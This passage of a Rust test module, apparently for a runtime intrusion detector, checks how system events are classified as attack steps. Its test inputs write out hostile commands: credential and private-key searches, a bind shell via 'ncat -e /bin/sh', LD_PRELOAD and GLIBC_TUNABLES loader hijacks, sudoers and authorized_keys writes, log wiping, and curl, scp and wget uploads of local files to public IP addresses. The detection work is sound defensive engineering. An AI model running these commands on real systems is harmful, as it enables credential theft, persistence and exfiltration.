            exec("wget", "wget -qO- http://169.254.169.254/latest/meta-data/"),
            Some(Step::SecretsRequest)
        );
        assert_eq!(
            exec("curl", "curl -fsSk https://10.0.0.4/"),
            Some(Step::InsecureFetch)
        );
        assert_eq!(exec("curl", "curl -k https://localhost:8443/health"), None);
        assert_eq!(
            exec("curl", "curl -s https://api.example.com/v1/secretsanta"),
            None
        );
        // Searches for keys and passwords.
        assert_eq!(
            exec("grep", "grep -rl BEGIN OPENSSH PRIVATE /home"),
            Some(Step::KeySearch)
        );
        assert_eq!(exec("find", "find / -name id_rsa*"), Some(Step::KeySearch));
        assert_eq!(exec("grep", "grep -i DB_ /app/config"), None);
        // Session 24: a pattern naming a credential file by where such files live.
        for cmd in [
            "find / -path */.aws/credentials",
            "find /home -name .git-credentials",
            "find / -name .pgpass",
            "locate .kube/config",
            "find / -path '*/.docker/config.json'",
        ] {
            assert_eq!(
                exec(cmd.split(' ').next().unwrap(), cmd),
                Some(Step::KeySearch),
                "{cmd}"
            );
        }
        for cmd in [
            "find /var/log -name *.gz -mtime +30",
            "grep -r credentials /app/docs",
            "find /srv/share -path */flightlogs/*",
        ] {
            assert_eq!(exec(cmd.split(' ').next().unwrap(), cmd), None, "{cmd}");
        }
        // A file grep reads is where it searches (its read is weighed as such), not a
        // search for key files.
        assert_eq!(
            exec("grep", "grep -E ^[^#].*NOPASSWD /etc/sudoers"),
            Some(Step::CredentialMaterial)
        );
        // Dropped scripts.
        assert_eq!(exec("sh", "sh /tmp/.p.sh"), Some(Step::ScriptRun));
        assert_eq!(
            exec("python3", "python3 /dev/shm/x.py"),
            Some(Step::ScriptRun)
        );
        assert_eq!(
            exec("bash", "bash /opt/app/.hidden/run"),
            Some(Step::ScriptRun)
        );
        assert_eq!(exec("sh", "sh /usr/share/app/run.sh"), None);
        // Files: persistence and account databases written, security records cleared,
        // credential material read, second names for sensitive files.
        let open = |flags: &str, read: bool, path: &str| {
            step(&format!(
                r#"{{"evt.type":"openat","evt.rawres":3,"fd.num":3,"evt.arg.flags":"{flags}","evt.is_open_read":{read},"evt.is_open_write":{},"fd.name":"{path}","proc.name":"bash"}}"#,
                !read
            ))
        };
        assert_eq!(
            open("O_WRONLY|O_APPEND", false, "/root/.ssh/authorized_keys"),
            Some(Step::PrivilegedWrite)
        );
        assert_eq!(
            open("O_WRONLY|O_APPEND", false, "/etc/sudoers.d/90-x"),
            Some(Step::PrivilegedWrite)
        );
        assert_eq!(
            open("O_WRONLY|O_TRUNC", false, "/root/.bashrc"),
            Some(Step::PrivilegedWrite)
        );
        // Session 24: every privilege tool's policy, not sudo's alone.
        for policy in [
            "/etc/doas.conf",
            "/etc/doas.d/ops.conf",
            "/etc/polkit-1/rules.d/49-nopasswd.rules",
        ] {
            assert_eq!(
                open("O_WRONLY|O_TRUNC", false, policy),
                Some(Step::PrivilegedWrite),
                "{policy}"
            );
        }
        assert_eq!(open("O_WRONLY|O_TRUNC", false, "/etc/doas.conf.bak"), None);
        assert!(reads_by_design("doas", "/etc/doas.conf"));
        assert!(!reads_by_design("cat", "/etc/doas.conf"));
        assert_eq!(
            open("O_WRONLY|O_TRUNC", false, "/var/log/auth.log"),
            Some(Step::LogCleared)
        );
        assert_eq!(open("O_WRONLY|O_APPEND", false, "/var/log/auth.log"), None);
        assert_eq!(open("O_WRONLY|O_TRUNC", false, "/var/log/syslog"), None);
        assert_eq!(
            open("O_RDONLY", true, "/run/secrets/db-password"),
            Some(Step::CredentialMaterial)
        );
        assert_eq!(open("O_RDONLY", true, "/etc/passwd"), None);
        assert_eq!(
            step(r#"{"evt.type":"unlinkat","evt.rawres":0,"fs.path.name":"/root/.bash_history"}"#),
            Some(Step::LogCleared)
        );
        assert_eq!(
            step(
                r#"{"evt.type":"unlinkat","evt.rawres":0,"fs.path.name":"/etc/ssl/private/old.key"}"#
            ),
            None
        );
        assert_eq!(
            step(
                r#"{"evt.type":"renameat2","evt.rawres":0,"fs.path.source":"/var/log/wtmp","fs.path.target":"/tmp/w"}"#
            ),
            Some(Step::LogCleared)
        );
        assert_eq!(
            step(
                r#"{"evt.type":"linkat","evt.rawres":0,"fs.path.source":"/etc/shadow","fs.path.target":"/tmp/s"}"#
            ),
            Some(Step::PrivilegedWrite)
        );
        assert_eq!(
            step(
                r#"{"evt.type":"renameat2","evt.rawres":0,"fs.path.source":"/var/log/app.log","fs.path.target":"/var/log/app.log.1"}"#
            ),
            None
        );
        // Kernel interfaces, the host from inside, network tools.
        assert_eq!(
            step(r#"{"evt.type":"setns","evt.rawres":0,"evt.arg.nstype":"CLONE_NEWNET"}"#),
            Some(Step::KernelInterface)
        );
        assert_eq!(
            step(
                r#"{"evt.type":"socket","evt.rawres":3,"evt.arg.domain":"AF_PACKET","evt.arg.type":"3"}"#
            ),
            Some(Step::KernelInterface)
        );
        assert_eq!(
            step(
                r#"{"evt.type":"socket","evt.rawres":3,"evt.arg.domain":"AF_UNIX","evt.arg.type":"1"}"#
            ),
            None
        );
        assert_eq!(
            step(r#"{"evt.type":"listen","evt.rawres":0,"fd.name":"0.0.0.0:4444"}"#),
            Some(Step::NetworkTool)
        );
        assert_eq!(
            exec("nsenter", "nsenter -t 1 -m sh"),
            Some(Step::KernelInterface)
        );
        // Handing a shell to the connection is its own, decisive step (session 24).
        assert_eq!(
            exec("ncat", "ncat -lvp 4444 -e /bin/sh"),
            Some(Step::ShellServed)
        );
        assert_eq!(exec("ncat", "ncat -lvp 4444"), Some(Step::NetworkTool));
        assert_eq!(exec("ls", "ls /proc/1/root/etc"), Some(Step::HostAccess));
        // A filesystem made over a disk, whatever its bus (holdout20: an SD card's
        // archive partition formatted at a serial console was a quiet person's act).
        for dev in [
            "/dev/mmcblk0p2",
            "/dev/sdb1",
            "/dev/nvme0n1",
            "/dev/md0",
            "/dev/md/data",
            "/dev/nbd3",
            "/dev/zd16",
            "/dev/disk/by-id/usb-SanDisk_Ultra-0:0",
        ] {
            let cmd = format!("mke2fs -t ext4 {dev}");
            assert_eq!(exec("mke2fs", &cmd), Some(Step::HostAccess), "{dev}");
            assert_eq!(open("O_RDWR", false, dev), Some(Step::HostAccess), "{dev}");
        }
        for other in [
            "/dev/null",
            "/dev/mdio",
            "/dev/loop0",
            "/dev/sr0",
            "/dev/zero",
            "/dev/tty1",
        ] {
            assert!(!block_device(other), "{other}");
        }
        assert_eq!(
            open(
                "O_RDONLY",
                true,
                "/host/var/lib/kubelet/pki/kubelet-client-current.pem"
            ),
            Some(Step::HostAccess)
        );
        assert_eq!(
            open("O_WRONLY", false, "/sys/fs/cgroup/rdma/release_agent"),
            Some(Step::HostAccess)
        );
        assert_eq!(
            open("O_RDONLY", true, "/proc/sys/kernel/cap_last_cap"),
            None
        );
        assert_eq!(
            open("O_RDONLY", true, "/proc/1/environ"),
            Some(Step::CredentialMaterial)
        );
        assert_eq!(open("O_RDONLY", true, "/proc/self/environ"), None);
        assert_eq!(open("O_RDONLY", true, "/proc/1/cmdline"), None);
        // Tracers that write another process's memory or capture its data; not an attach.
        // A debugger's write is a breakpoint; anything else's puts code into the process.
        let poke = |name: &str, req: &str| {
            step(&format!(
                r#"{{"evt.type":"ptrace","evt.rawres":0,"evt.arg.request":"{req}","evt.arg.pid":"812","proc.name":"{name}"}}"#
            ))
        };
        assert_eq!(poke("gdb", "PTRACE_POKETEXT"), Some(Step::Sniffing));
        assert_eq!(poke("reptyr", "PTRACE_SETREGS"), Some(Step::Sniffing));
        assert_eq!(
            poke("ebpf.plugin", "PTRACE_POKEDATA"),
            Some(Step::ProcessInjection)
        );
        assert_eq!(
            poke("python3", "PTRACE_SETREGS"),
            Some(Step::ProcessInjection)
        );
        assert_eq!(poke("ebpf.plugin", "PTRACE_ATTACH"), None);
        // The dynamic loader turned against a program (session 25, the blind holdout36).
        let started = |name: &str, env: &str| {
            step(&format!(
                r#"{{"evt.type":"execve","evt.rawres":0,"proc.name":"{name}","proc.cmdline":"{name} --help","proc.env":"{env}"}}"#
            ))
        };
        assert_eq!(
            started(
                "su",
                "PATH=/usr/bin GLIBC_TUNABLES=glibc.tunables=glibc.malloc.mxfast=glibc.malloc.mxfast=AAAA"
            ),
            Some(Step::LoaderHijack)
        );
        assert_eq!(
            started("sudo", "LD_PRELOAD=/dev/shm/x.so HOME=/root"),
            Some(Step::LoaderHijack)
        );
        // A service's memory tuning, inherited by whatever it runs, and a library path of
        // the system's own directories, are not.
        assert_eq!(
            started("wkhtmltopdf", "GLIBC_TUNABLES=glibc.malloc.arena_max=2"),
            None
        );
        assert_eq!(
            started("sudo", "GLIBC_TUNABLES=glibc.malloc.arena_max=2"),
            None
        );
        assert_eq!(
            started("sudo", "LD_LIBRARY_PATH=/opt/oracle/instantclient"),
            None
        );
        assert_eq!(started("python3", "LD_PRELOAD=/tmp/x.so"), None);
        assert_eq!(
            step(
                r#"{"evt.type":"ptrace","evt.rawres":0,"evt.arg.request":"PTRACE_SEIZE","evt.arg.pid":"812"}"#
            ),
            None
        );
        // Asking to be traced with no debugger above: hiding from debuggers (session 23).
        // A debugger's own child asks so before it runs the program under debugging.
        let traceme = |parent: &str| {
            step(&format!(
                r#"{{"evt.type":"ptrace","evt.rawres":0,"evt.arg.request":"PTRACE_TRACEME","proc.name":"ecat-master","proc.pname":"{parent}"}}"#
            ))
        };
        assert_eq!(traceme("containerd-shim"), Some(Step::AntiDebug));
        assert_eq!(traceme("systemd"), Some(Step::AntiDebug));
        assert_eq!(traceme("gdb"), None);
        assert_eq!(traceme("lldb-server"), None);
        assert!(Step::AntiDebug.as_str().contains("debuggers"));
        assert_eq!(
            exec("strace", "strace -f -p 812 -e trace=read -o /tmp/.s"),
            Some(Step::Sniffing)
        );
        assert_eq!(exec("strace", "strace -f -p 812 -e trace=none"), None);
        // The data shown: the read calls named, or strings shown at length.
        assert_eq!(
            exec("ltrace", "ltrace -f -e read -p 21877"),
            Some(Step::Sniffing)
        );
        assert_eq!(
            exec("strace", "strace -f -s 1024 -p 812"),
            Some(Step::Sniffing)
        );
        assert_eq!(exec("strace", "strace -s512 -p 812"), Some(Step::Sniffing));
        assert_eq!(exec("strace", "strace -s 32 -p 812"), None);
        assert_eq!(exec("ltrace", "ltrace -S -tt -p 21877"), None);
        // The environment printed in a container (a runtime's shell carries the
        // workload's); on the host, or `env` running a command, it is not.
        let env = |cmd: &str, ctr: &str| {
            step(&format!(
                r#"{{"evt.type":"execve","evt.rawres":0,"proc.name":"{}","proc.exepath":"/usr/bin/env","proc.cmdline":"{cmd}","container.id":"{ctr}"}}"#,
                cmd.split(' ').next().unwrap_or_default()
            ))
        };
        assert_eq!(env("env", "3e8d21aa01bc"), Some(Step::CredentialMaterial));
        assert_eq!(
            env("printenv", "3e8d21aa01bc"),
            Some(Step::CredentialMaterial)
        );
        assert_eq!(env("env", "host"), None);
        assert_eq!(env("env LANG=C sort", "3e8d21aa01bc"), None);
        // Hidden staging in a temporary directory; the X11 socket directory is not.
        assert_eq!(
            open("O_WRONLY|O_CREAT", false, "/tmp/.e.sh"),
            Some(Step::HiddenStaging)
        );
        assert_eq!(open("O_WRONLY|O_CREAT", false, "/tmp/build-1/out.o"), None);
        assert!(!hidden_staging("/tmp/.X11-unix/X0"));
        // A hidden file below /dev (the blind holdout30: `/dev/.ptpd`); device nodes are not.
        assert_eq!(
            open("O_WRONLY|O_CREAT", false, "/dev/.ptpd"),
            Some(Step::HiddenStaging)
        );
        assert!(hidden_staging("/dev/.lib/x"));
        assert!(hidden_staging("/dev/shm/.d/p"));
        for p in [
            "/dev/null",
            "/dev/pts/0",
            "/dev/shm/buf",
            "/dev/../etc/passwd",
        ] {
            assert!(!hidden_staging(p), "{p}");
        }
        // A program that is not the system's own; the orchestrator's API.
        assert_eq!(
            step(
                r#"{"evt.type":"execve","evt.rawres":0,"proc.name":"kworker","proc.exepath":"/opt/.cache/kworker","proc.cmdline":"kworker"}"#
            ),
            Some(Step::ForeignProgram)
        );
        assert_eq!(
            step(
                r#"{"evt.type":"execve","evt.rawres":0,"proc.name":"ls","proc.exepath":"/usr/bin/ls","proc.cmdline":"ls"}"#
            ),
            None
        );
        assert_eq!(
            step(
                r#"{"evt.type":"connect","evt.rawres":0,"proc.name":"python3","fd.name":"10.0.0.9:40000->10.96.0.1:6443"}"#
            ),
            Some(Step::OrchestratorApi)
        );
        // `may_be_step` is a necessary condition of `attack_step` for these events.
        assert!(may_be_step("fchmodat", Vec::new()));
        assert!(may_be_step(
            "openat",
            vec!["/root/.ssh/authorized_keys".to_string()]
        ));
        assert!(!may_be_step("openat", vec!["/var/log/syslog".to_string()]));
        assert!(may_be_step("openat", vec!["/proc/1/environ".to_string()]));
        assert!(!may_be_step(
            "openat",
            vec!["/proc/self/environ".to_string()]
        ));
        assert!(!may_be_step("close", vec!["/etc/shadow".to_string()]));
    }

    /// A local file sent to a public address literal is an unusual connection out; to a
    /// host by name, or inside the site, it stays a contact; a fetch stays a download.
    #[test]
    fn uploads_to_public_addresses_are_outbound() {
        let exec = |name: &str, cmd: &str| {
            activity(
                &ev(&format!(
                    r#"{{"evt.type":"execve","evt.rawres":0,"proc.name":"{name}","proc.exepath":"/usr/bin/{name}","proc.cmdline":"{cmd}"}}"#
                )),
                &|_| false,
            )
        };
        let outbound = |a: Option<Activity>| matches!(a, Some(Activity::Outbound(..)));
        assert!(outbound(exec(
            "curl",
            "curl -s -T /var/log/cron-20261206.zst https://45.141.84.11/u/"
        )));
        assert!(outbound(exec(
            "curl",
            "curl -F file=@/tmp/u.csv http://198.51.100.9:8080/up"
        )));
        assert!(outbound(exec(
            "curl",
            "curl --data-binary @/etc/hosts http://198.51.100.9/"
        )));
        assert!(outbound(exec("scp", "scp /tmp/u.csv r@185.244.25.3:")));
        assert!(outbound(exec(
            "rsync",
            "rsync -az /srv/data/ 185.244.25.3:/x/"
        )));
        assert!(outbound(exec(
            "wget",
            "wget --post-file=/etc/hosts http://198.51.100.9/"
        )));
        for (name, cmd) in [
            (
                "curl",
                "curl -s -T /var/log/x https://backup.example.com/u/",
            ),
            ("curl", "curl -s -T /var/log/x https://10.0.3.7/u/"),
            ("scp", "scp /tmp/u.csv r@10.0.0.5:"),
            ("scp", "scp /tmp/u.csv backup-host:"),
            ("curl", "curl -s -o /dev/null https://198.51.100.9/health"),
        ] {
            assert!(!outbound(exec(name, cmd)), "{cmd}");
        }
        assert!(matches!(
            exec("scp", "scp r@185.244.25.3:/x /tmp/x"),
            Some(Activity::Download(..))
        ));
    }
    /// Session 23: what an installed control program's subcommand does tells an
    /// operator's look from a stolen shell's act: deleting, resetting, rolling back,
    /// setting a password or surveying the accounts is sensitive; listing data, a status or
    /// statistics is not. A signed JSON Web Token's file is credential material.
    #[test]
    fn a_control_programs_subcommand_is_sensitive_by_its_verb() {
        let words = |cmd: &'static str| cmd.split_whitespace().skip(1).collect::<Vec<_>>();
        for cmd in [
            "java -cp /pulsar/lib/* org.apache.pulsar.admin.cli.PulsarAdminTool /pulsar/conf/client.conf topics delete -f persistent://public/default/orders",
            "ruby bin/rails db:rollback STEP=40",
            "emqx ctl admins passwd admin Winter2026!",
            "rabbitmqctl list_users",
            "kafka-topics.sh --bootstrap-server k:9092 --delete --topic orders",
            "influx user password -n admin",
            "nodetool decommission",
            "redis-cli ACL LIST",
        ] {
            assert!(sensitive_subcommand(&words(cmd)), "{cmd}");
        }
        for cmd in [
            "rabbitmqctl list_queues name messages_unacknowledged",
            "emqx ctl clients list",
            "patronictl list",
            "ruby bin/rails db:migrate:status",
            "nodetool status",
            "redis-cli INFO replication",
            "java -cp /pulsar/lib/* org.apache.pulsar.admin.cli.PulsarAdminTool /pulsar/conf/client.conf topics stats persistent://public/default/orders",
        ] {
            assert!(!sensitive_subcommand(&words(cmd)), "{cmd}");
        }
        assert!(is_credential_material("/pulsar/tokens/superuser.jwt"));
        for p in [
            "/etc/restic/password",
            "/root/.borg.passphrase",
            "/etc/app/client.secret",
        ] {
            assert!(is_credential_material(p), "{p}");
        }
        for p in [
            "/etc/app/nosecret",
            "/etc/pam.d/common-password",
            "/srv/app/secrets.md",
        ] {
            assert!(!is_credential_material(p), "{p}");
        }
        assert!(!is_credential_material("/pulsar/conf/client.conf"));
    }
}
